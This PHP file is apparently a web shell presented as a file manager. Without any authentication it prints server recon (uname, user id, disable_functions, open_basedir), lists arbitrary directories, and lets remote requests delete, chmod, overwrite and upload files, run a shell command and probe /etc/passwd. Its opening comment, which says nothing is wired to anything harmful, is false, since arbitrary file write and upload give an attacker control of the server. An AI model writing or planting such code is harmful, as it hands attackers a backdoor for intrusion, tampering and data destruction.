<?php
// A stand-in for a web file manager: every capability, none of them wired to anything harmful here.
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo php_uname() . ' ' . get_current_user() . ' ' . getmyuid();
$u = function_exists('posix_getpwuid') ? posix_getpwuid(fileowner($dir)) : null;
echo 'safe_mode: ' . ini_get('safe_mode') . ' disable_functions: ' . ini_get('disable_functions') . ' open_basedir: ' . ini_get('open_basedir');
echo disk_free_space($dir);
foreach (scandir($dir) as $f) { echo $f . ' ' . substr(sprintf('%o', fileperms("$dir/$f")), -4) . "\n"; }
if (isset($_POST['rm'])) { unlink($_POST['rm']); }
if (isset($_POST['mode'])) { chmod($_POST['file'], octdec($_POST['mode'])); }
if (isset($_POST['save'])) { file_put_contents($_POST['file'], $_POST['text']); }
if (isset($_FILES['up'])) { move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . basename($_FILES['up']['name'])); }
if (isset($_POST['run'])) { echo shell_exec('uname -a'); }
echo file_exists('/etc/passwd') ? 'passwd readable' : '';
